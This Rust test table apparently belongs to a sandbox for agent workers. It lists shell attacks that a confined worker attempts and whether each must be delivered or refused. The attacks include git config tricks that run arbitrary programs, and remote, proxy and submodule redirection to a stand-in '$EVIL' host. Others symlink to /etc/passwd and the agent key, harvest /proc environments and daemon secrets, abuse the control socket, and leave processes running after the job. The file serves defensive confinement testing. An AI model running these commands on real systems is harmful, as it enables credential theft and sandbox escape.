//! The table of what a worker may try. Each row is shell, run confined in the workspace after the honest work is done.
//!
//! `$CANARY` is a program that writes down that it was run by somebody who is not confined. `$EVIL` is an address that
//! writes down who calls. `$DATA` is the daemon's directory. `$LOOT` is where a worker puts what it should never get;
//! it lies in the workspace, so loot is published and seen.

use super::attack::Must::{Deliver, Refuse};
use super::attack::{Attack, attack};

/// Programs that git would run if it were asked in the worker's repository.
pub const PROGRAMS: &[Attack] = &[
    attack("hooks", Deliver(&[]))
        .doing(
            r#"mkdir -p .git/hooks
               for hook in pre-commit commit-msg post-commit pre-push post-checkout reference-transaction \
                   post-index-change pre-receive update post-update; do ln -s "$CANARY" .git/hooks/$hook; done"#,
        )
        .sprung_by("git commit -qam x"),
    attack("hooks-elsewhere", Deliver(&["hooks/pre-commit"]))
        .doing(r#"mkdir hooks; printf '#!/bin/sh\n%s\n' "$CANARY" > hooks/pre-commit; chmod +x hooks/pre-commit
                  git config core.hooksPath hooks"#)
        .sprung_by("git commit -qam x"),
    attack("fsmonitor", Deliver(&[]))
        .doing(r#"git config core.fsmonitor "$CANARY""#)
        .sprung_by("git status"),
    attack("fsmonitor-by-include", Deliver(&[]))
        .doing(r#"printf '[core]\n\tfsmonitor = %s\n' "$CANARY" > .git/more; git config include.path more"#)
        .sprung_by("git status"),
    attack("fsmonitor-by-worktree-configuration", Deliver(&[]))
        .doing(r#"git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$CANARY""#)
        .sprung_by("git status"),
    attack("filter-clean", Deliver(&[".gitattributes"]))
        .doing(r#"git config filter.evil.clean "$CANARY"; echo '* filter=evil' > .gitattributes"#)
        .sprung_by("git add -A"),
    attack("filter-smudge", Deliver(&[".gitattributes"]))
        .doing(r#"git config filter.evil.smudge "$CANARY"; echo '* filter=evil' > .gitattributes"#)
        .sprung_by("rm README.md; git checkout -- README.md"),
    attack("filter-process", Deliver(&[".gitattributes"]))
        .doing(
            r#"git config filter.evil.process "$CANARY"; git config filter.evil.required true
               echo '* filter=evil' > .gitattributes"#,
        )
        .sprung_by("git add -A"),
    attack("filter-by-private-attributes", Deliver(&[]))
        .doing(r#"git config filter.evil.clean "$CANARY"; mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes"#)
        .sprung_by("git add -A"),
    attack("diff-textconv", Deliver(&[".gitattributes"]))
        .doing(r#"git config diff.evil.textconv "$CANARY"; echo '* diff=evil' > .gitattributes"#)
        .sprung_by("git diff"),
    attack("diff-external", Deliver(&[]))
        .doing(r#"git config diff.external "$CANARY""#)
        .sprung_by("git diff"),
    attack("signing-program", Deliver(&[]))
        .doing(r#"git config commit.gpgSign true; git config gpg.program "$CANARY""#)
        .sprung_by("git commit -qam x"),
    attack("signing-program-of-ssh", Deliver(&[]))
        .doing(
            r#"git config commit.gpgSign true; git config gpg.format ssh; git config gpg.ssh.program "$CANARY"
               git config user.signingKey "$HOME/key""#,
        )
        .sprung_by("git commit -qam x"),
    attack("editor", Deliver(&[]))
        .doing(r#"git config core.editor "$CANARY""#)
        .sprung_by("git commit -qa"),
    attack("credential-helper", Deliver(&[]))
        .doing(r#"git config credential.helper "!$CANARY""#)
        .sprung_by("git push origin HEAD:refs/heads/x"),
    attack("askpass", Deliver(&[]))
        .doing(r#"git config core.askPass "$CANARY""#)
        .sprung_by("git push origin HEAD:refs/heads/x"),
    attack("ssh-command", Deliver(&[]))
        .doing(r#"git config core.sshCommand "$CANARY"; git remote set-url origin ssh://127.0.0.1/x"#)
        .sprung_by("git ls-remote origin"),
    attack("remote-that-is-a-program", Deliver(&[]))
        .doing(r#"git config protocol.ext.allow always; git remote set-url origin "ext::$CANARY""#)
        .sprung_by("git ls-remote origin"),
    attack("upload-pack-program", Deliver(&[]))
        .doing(r#"git config remote.origin.uploadpack "$CANARY"; git remote set-url origin "file://$PWD""#)
        .sprung_by("git ls-remote origin"),
    attack("receive-pack-program", Deliver(&[]))
        .doing(r#"git config remote.origin.receivepack "$CANARY"; git remote set-url origin "file://$PWD""#)
        .sprung_by("git push origin HEAD:refs/heads/x"),
];

/// Addresses that lead elsewhere.
pub const ADDRESSES: &[Attack] = &[
    attack("instead-of", Deliver(&[]))
        .doing(r#"git config "url.$EVIL/.insteadOf" http://"#)
        .sprung_by("git ls-remote origin"),
    attack("push-instead-of", Deliver(&[]))
        .doing(r#"git config "url.$EVIL/.pushInsteadOf" http://"#)
        .sprung_by("git push origin HEAD:refs/heads/x"),
    attack("another-remote", Deliver(&[]))
        .doing(r#"git remote set-url origin "$EVIL/x.git"; git remote set-url --push origin "$EVIL/x.git""#)
        .sprung_by("git ls-remote origin"),
    attack("proxy", Deliver(&[])).doing(r#"git config http.proxy "$EVIL""#).sprung_by("git ls-remote origin"),
    attack("proxy-of-the-remote", Deliver(&[]))
        .doing(r#"git config remote.origin.proxy "$EVIL""#)
        .sprung_by("git ls-remote origin"),
    attack("bundle-address", Deliver(&[]))
        .doing(r#"git config fetch.bundleURI "$EVIL/x.bundle""#)
        .sprung_by("git fetch origin"),
    attack("promisor-of-missing-objects", Deliver(&[]))
        .doing(
            r#"git config extensions.partialClone evil; git config remote.evil.promisor true
               git config core.repositoryFormatVersion 1
               git config remote.evil.url "$EVIL/x.git""#,
        )
        .sprung_by("git cat-file -p 1111111111111111111111111111111111111111"),
    attack("large-files-elsewhere", Deliver(&[".gitattributes", ".lfsconfig", "large.bin"]))
        .doing(
            r#"echo '*.bin filter=lfs diff=lfs merge=lfs -text' > .gitattributes
           printf '[lfs]\n\turl = %s\n' "$EVIL" > .lfsconfig
           printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 12345\n' 1 > large.bin
           git config filter.lfs.clean "$CANARY"; git config filter.lfs.process "$CANARY""#,
        )
        .sprung_by("git add -A"),
    attack("submodule-elsewhere", Deliver(&[".gitmodules"]))
        .doing(
            r#"printf '[submodule "lib"]\n\tpath = lib\n\turl = %s/lib.git\n' "$EVIL" > .gitmodules
           git config submodule.lib.url "$EVIL/lib.git"; git config submodule.lib.active true
           git config submodule.recurse true; git config push.recurseSubmodules on-demand
           git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,lib"#,
        )
        .sprung_by("git submodule update --init"),
];

/// What becomes of the worker's `.git`, and of repositories within its tree.
pub const REPOSITORIES: &[Attack] = &[
    attack("git-deleted", Deliver(&[])).doing("rm -rf .git")
        .sprung_by(r#"git status || "$CANARY" < /dev/null"#),
    attack("git-is-a-file", Deliver(&[])).doing(r#"rm -rf .git; echo "gitdir: $DATA/mirrors" > .git"#)
        .sprung_by(r#"git status || "$CANARY" < /dev/null"#),
    attack("git-is-a-link", Deliver(&[])).doing(r#"rm -rf .git; ln -s "$DATA/mirrors" .git"#),
    attack("git-is-a-pipe", Deliver(&[])).doing("rm -rf .git; mkfifo .git")
        .sprung_by(r#"timeout 5 git status || "$CANARY" < /dev/null"#),
    attack("git-is-garbage", Deliver(&[])).doing(
        "rm -rf .git/objects .git/refs; echo garbage > .git/HEAD; echo garbage > .git/packed-refs; echo x > .git/index",
    )
        .sprung_by(r#"git status || "$CANARY" < /dev/null"#),
    attack("own-commits-and-branches", Deliver(&[])).doing(
        "git add -A; git commit -qm 'By the worker'; git checkout -qb elsewhere; git update-ref refs/openpod/base HEAD
         git update-ref refs/openpod/published HEAD; git branch -f main HEAD; git tag -f v1",
    )
        .sprung_by(r#"[ -z "$(git status --porcelain)" ] && "$CANARY" < /dev/null"#),
    attack("replaced-objects", Deliver(&[])).doing(
        "git add -A; git commit -qm x; git replace HEAD~1 HEAD; git replace -f \"$(git rev-parse HEAD:README.md)\" \
         \"$(git rev-parse HEAD:answer.txt)\"",
    ),
    attack("grafts-and-shallow", Deliver(&[])).doing(
        "mkdir -p .git/info; git rev-parse HEAD > .git/info/grafts; git rev-parse HEAD > .git/shallow",
    ),
    attack("alternates", Deliver(&[])).doing(
        r#"mkdir -p .git/objects/info; { ls -d "$DATA"/mirrors/*; echo "$DATA/mirrors/objects"; } \
           > .git/objects/info/alternates 2> /dev/null"#,
    ),
    attack("worktree-elsewhere", Deliver(&[]))
        .doing("git config core.worktree /etc")
        .sprung_by(r#"[ "$(git rev-parse --show-toplevel)" = /etc ] && "$CANARY" < /dev/null"#),
    attack("hidden-flags-of-the-index", Deliver(&[]))
        .doing("git update-index --assume-unchanged answer.txt; git update-index --skip-worktree answer.txt")
        .sprung_by(r#"git diff --quiet && "$CANARY" < /dev/null"#),
    attack("private-ignores", Deliver(&[]))
        .doing("mkdir -p .git/info; echo '*' > .git/info/exclude; touch .git/index.lock .git/HEAD.lock")
        .sprung_by(r#"git add -A || "$CANARY" < /dev/null"#),
    attack("nested-repository", Deliver(&["tool/made.txt"]))
        .doing(
            r#"git init -q tool; echo made > tool/made.txt; git -C tool add -A
               git -C tool -c user.name=x -c user.email=x commit -qm x; git -C tool config core.fsmonitor "$CANARY""#,
        )
        .sprung_by("git add -A; git status"),
    attack("bare-repository-within-the-tree", Deliver(&["tool/HEAD", "tool/config"]))
        .doing(
            r#"git init -q --bare --template= tool; git -C tool config core.bare false
               git -C tool config core.worktree .; git -C tool config core.fsmonitor "$CANARY""#,
        )
        .sprung_by("cd tool; git status"),
    attack("link-to-another-repository", Deliver(&[])).doing(
        "mkdir lib; git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,lib
         git -c user.name=x -c user.email=x commit -qm x",
    ),
    attack("submodule-that-is-an-option", Refuse("gitmodulesUrl"))
        .doing(r#"printf '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n' > .gitmodules"#),
    attack("submodule-that-is-a-program", Refuse("gitmodulesUpdate"))
        .doing(r#"printf '[submodule "x"]\n\tpath = x\n\turl = https://x.invalid\n\tupdate = !%s\n' "$CANARY" > .gitmodules"#),
    attack("submodule-outside-of-the-tree", Refuse("gitmodules"))
        .doing(r#"printf '[submodule "../../x"]\n\tpath = x\n\turl = https://x.invalid\n' > .gitmodules"#),
];

/// Names and kinds of files that do harm where they are checked out, or to whoever reads them.
pub const FILES: &[Attack] = &[
    attack("name-in-capitals", Refuse("git has no file called .GIT")).doing("echo x > .GIT"),
    attack("name-of-dos", Refuse("git has no file called git~1")).doing("echo x > git~1"),
    attack("name-of-a-stream", Refuse("git has no file called .git::$INDEX_ALLOCATION"))
        .doing("echo x > '.git::$INDEX_ALLOCATION'"),
    attack("name-with-what-hfs-ignores", Refuse("git has no file called"))
        .doing(r#"echo x > "$(printf '.g\342\200\214it')""#),
    attack("name-with-a-dot-at-its-end", Refuse("git has no file called .git.")).doing("echo x > .git."),
    attack("name-in-a-directory", Refuse("git has no file called sub/.Git/config"))
        .doing("mkdir -p sub/.Git; echo x > sub/.Git/config"),
    attack("name-with-a-backslash", Refuse("leaves the tree")).doing(r"echo x > 'a\..\..\x'"),
    attack("names-that-differ-in-case", Deliver(&["Answer.txt"])).doing("echo 43 > Answer.txt"),
    attack("names-that-are-no-text", Deliver(&[r#""n\377\nme""#]))
        .doing(r#"echo x > "$(printf 'n\377\nme')""#),
    attack("names-that-are-options", Deliver(&["--exec=evil", "-rf"])).doing("echo x > ./--exec=evil; echo x > ./-rf"),
    attack("link-to-a-file-of-the-system", Refuse("link is a symbolic link that leaves the tree"))
        .doing("ln -s /etc/passwd link")
        .sprung_by(r#"grep -q root: link && "$CANARY" < /dev/null"#),
    attack("link-to-the-key", Refuse("link is a symbolic link that leaves the tree"))
        .doing(r#"ln -s "$DATA/agent.key" link"#)
        .sprung_by(r#"grep -q opk_ link && "$CANARY" < /dev/null"#),
    attack("link-upwards", Refuse("src/link is a symbolic link that leaves the tree"))
        .doing("mkdir -p src; ln -s ../../outbound.git src/link")
        .sprung_by(r#"[ -e src/link/HEAD ] && "$CANARY" < /dev/null"#),
    attack("link-through-a-link", Refuse("link is a symbolic link that leaves the tree"))
        .doing("ln -s . here; ln -s here/../../x link"),
    attack("link-in-place-of-the-answer", Refuse("answer.txt is a symbolic link that leaves the tree"))
        .doing(r#"ln -sf "$DATA/journal.db" answer.txt"#)
        .sprung_by(r#"head -c 6 answer.txt | grep -q SQLite && "$CANARY" < /dev/null"#),
    attack("link-in-place-of-the-attributes", Refuse(".gitattributes is a symbolic link that leaves the tree"))
        .doing("ln -s /etc/passwd .gitattributes"),
    attack("link-in-place-of-the-modules", Refuse("gitmodules")).doing("ln -s answer.txt .gitmodules"),
    attack("link-within-the-tree", Deliver(&["link"])).doing("ln -s answer.txt link"),
    attack("pipe-in-place-of-a-file", Deliver(&["README.md"])).doing("rm README.md; mkfifo README.md"),
    attack("pipe-in-place-of-the-ignores", Refuse(".gitignore is neither a file nor a link"))
        .doing("mkfifo .gitignore")
        .sprung_by(r#"timeout 2 git status; [ $? = 124 ] && "$CANARY" < /dev/null"#),
    attack("pipe-in-place-of-attributes-below", Refuse("sub/.gitattributes is neither a file nor a link"))
        .doing("mkdir sub; echo x > sub/file; mkfifo sub/.gitattributes"),
    attack("text-that-no-encoding-has", Refuse("answer.txt"))
        .doing("echo '*.txt working-tree-encoding=none-of-this-name' > .gitattributes")
        .sprung_by(r#"git add -A || "$CANARY" < /dev/null"#),
    attack("giant-new-file", Refuse("giant has 1099511627776 bytes")).doing("truncate -s 1T giant"),
    attack("giant-old-file", Refuse("answer.txt has 1099511627776 bytes")).doing("truncate -s 1T answer.txt"),
    attack("giants-together", Refuse("its files have")).doing(
        "for number in 1 2 3 4 5 6; do truncate -s 19M large.$number; done",
    ),
    attack("many-files", Refuse("files are changed, and at most 5000 may be"))
        .doing("mkdir many; cd many; seq 5001 | xargs touch"),
    attack("long-path", Refuse("a path has")).doing(
        r#"long=$(printf %0200d 1); mkdir -p $long/$long/$long/$long/$long; echo x > $long/$long/$long/$long/$long/file"#,
    ),
    attack("deeper-than-any-path", Refuse("deeper than a path can tell")).doing(
        r#"long=$(printf %0250d 1); (for level in $(seq 20); do mkdir $long && cd -P $long || exit; done; echo x > deep)"#,
    ),
];

/// What a worker tries with the machine that it runs on. Only where workers are confined.
pub const MACHINE: &[Attack] = &[
    attack("reads-what-is-the-daemon-s", Deliver(&[])).doing(
        r#"for file in agent.key webhook.secret webhook.json journal.db journal.db-wal lock git-home mirrors jobs runs run; do
             { cat "$DATA/$file" || ls -A "$DATA/$file/"; } >> "$LOOT" 2> /dev/null
           done
           own=$(basename "$(dirname "$OPENPOD_RUN_DIR")")
           cat "$DATA/runs/$own/assignment.json" "$DATA/jobs/$own/job.json" "$DATA/jobs/$own/outbound.git/HEAD" \
             "$OPENPOD_RUN_DIR.shim/id" "$OPENPOD_RUN_DIR.shim/output.log" >> "$LOOT" 2> /dev/null
           cat "$RECORD" >> "$LOOT" 2> /dev/null"#,
    )
        .sprung_by(r#"grep -q opk_ ../../../agent.key && "$CANARY" < /dev/null"#),
    attack("writes-where-it-must-not", Deliver(&[])).doing(
        r#"own=$(basename "$(dirname "$OPENPOD_RUN_DIR")")
           for place in "$RECORD" "$CANARY" "$DATA/journal.db" "$DATA/new" "$DATA/mirrors/new" "$DATA/run/new" \
               "$DATA/jobs/$own/job.json" "$DATA/jobs/$own/outbound.git/config" "$DATA/runs/$own/assignment.json" \
               "$DATA/git-home/.gitconfig" "$OPENPOD_RUN_DIR.shim/status.json" "$OPENPOD_RUN_DIR.shim/lock" \
               "$(dirname "$OPENPOD_RUN_DIR")/round-1-attempt-2" /etc/gitconfig /tmp/of-a-worker /usr/lib/of-a-worker; do
             (echo '{"is":"lost"}' > "$place") 2> /dev/null && echo "wrote $place" >> "$LOOT"
           done
           mv "$OPENPOD_WORKSPACE" "$DATA/jobs/$own/moved" 2> /dev/null && echo moved >> "$LOOT"
           mv "$OPENPOD_RUN_DIR" "$OPENPOD_RUN_DIR.2" 2> /dev/null && echo moved >> "$LOOT"
           rm -rf "$OPENPOD_RUN_DIR.shim" "$DATA/jobs/$own/outbound.git" 2> /dev/null"#,
    )
        .sprung_by(r#"(: > ../../../new) && rm ../../../new && "$CANARY" < /dev/null"#),
    attack("changes-its-task-and-its-run", Deliver(&[])).doing(
        r#"chmod +w "$OPENPOD_TICKET_FILE"
           sed 's/"title": "[^"]*"/"title": "Something else"/' "$OPENPOD_TICKET_FILE" > "$TMPDIR/t"
           cat "$TMPDIR/t" > "$OPENPOD_TICKET_FILE"; rm -rf "$HOME" "$TMPDIR"; ln -s "$DATA/agent.key" "$OPENPOD_SUMMARY_FILE"
           ln -s "$DATA" "$HOME"; ln -s / "$TMPDIR""#,
    ),
    attack("looks-into-other-processes", Deliver(&[])).doing(
        r#"for process in /proc/[0-9]*; do
             found=$(tr '\0' '\n' < "$process/environ" 2> /dev/null)
             case "$found" in ''|*"OPENPOD_RUN_ID=$OPENPOD_RUN_ID"*) ;; *) echo "$process: $found" >> "$LOOT" ;; esac
           done
           cd "/proc/$PPID" || exit
           cat environ mem maps root/etc/hostname fd/* cwd/* < /dev/null >> "$LOOT" 2> /dev/null
           readlink root cwd exe fd/* >> "$LOOT" 2> /dev/null
           cd "$OPENPOD_WORKSPACE""#,
    )
        .sprung_by(r#"tr '\0' '\n' < /proc/$PPID/environ | grep -q ^PATH= && "$CANARY" < /dev/null"#),
    attack("asks-the-daemon-s-sockets", Deliver(&[])).doing(
        r#"for number in $(seq 0 60); do
             for answer in "$(printf 'protocol=http\nhost=%s\npath=acme/answers.git\n' "$HOST" |
               "$HELPER" git-credential "$DATA/run/agentd-$DAEMON-$number/s" get)"; do
               case "$answer" in *password*) echo "$answer" >> "$LOOT" ;; esac
             done
           done"#,
    ),
    attack("gives-orders-at-the-control-socket", Deliver(&[]))
        .doing(
            r#"for token in "$(cat "$DATA/control.token" 2> /dev/null)" 0000; do
                 for order in '"ask":"status"' '"ask":"drain"'; do
                   printf '{"token":"%s",%s}\n' "$token" "$order" |
                     curl -s --max-time 5 --unix-socket "$DATA/control.sock" telnet://daemon 2> /dev/null |
                     grep -v '"refused"' >> "$LOOT"
                 done
               done; true"#,
        )
        .sprung_by(r#"[ -s ../../../control.token ] || grep -q opk_ ../../../agent.key && "$CANARY" < /dev/null"#),
    attack("changes-the-modes-of-the-daemon-s-files", Deliver(&[]))
        .doing(r#"chmod 777 "$DATA"; chmod 666 "$DATA/agent.key" "$DATA/control.token" "$DATA/journal.db""#),
    attack("has-no-privileges-and-gains-none", Deliver(&[])).doing(
        r#"grep -q '^NoNewPrivs:.1$' /proc/self/status || echo 'could gain privileges' >> "$LOOT"
           grep -q '^CapEff:.0*$' /proc/self/status || echo 'has capabilities' >> "$LOOT"
           grep -q '^CapBnd:.0*$' /proc/self/status || echo 'could have capabilities' >> "$LOOT"
           grep -q '^Seccomp' /proc/self/status
           [ "$(ulimit -c)" = 0 ] || echo 'may leave a core' >> "$LOOT"
           [ "$(ulimit -Hn)" = 512 ] || echo 'may open many files' >> "$LOOT"
           (ulimit -n 1024) 2> /dev/null && echo 'may raise its limit' >> "$LOOT"
           mkdir m; mount -t tmpfs x m 2> /dev/null && echo 'may mount' >> "$LOOT"; rmdir m
           unshare -m true 2> /dev/null && echo 'may unshare' >> "$LOOT"
           env | grep -iE 'token|secret|opk_|ghs_|whsec' >> "$LOOT"; true"#,
    )
        .sprung_by(r#"grep -q '^NoNewPrivs:.0$' /proc/self/status && "$CANARY" < /dev/null"#),
    attack("outlives-its-job", Deliver(&[])).doing(
        r#"export LONG
           (setsid sh -c 'trap "" TERM HUP INT; (trap "" TERM; exec sleep ${LONG}0) & exec sleep ${LONG}1' &) > /dev/null 2>&1
           (env -i LONG="$LONG" /usr/bin/setsid /bin/sh -c 'cd /; trap "" TERM; exec sleep ${LONG}2' &) > /dev/null 2>&1 < /dev/null"#,
    ),
    attack("fills-the-disk", Refuse("the worker filled more of the disk than it may"))
        .doing(r#"head -c 100000000 /dev/zero > "$TMPDIR/large"; exec sleep 600"#),
    attack("fills-the-disk-bit-by-bit", Refuse("the worker filled more of the disk than it may"))
        .doing(r#"mkdir "$HOME/.cache"; cd "$HOME/.cache"; head -c 100000000 /dev/zero | split -b 1000000; exec sleep 600"#),
    attack("fills-its-log", Refuse("the worker wrote more output than it may")).doing("yes | head -c 4000000"),
];
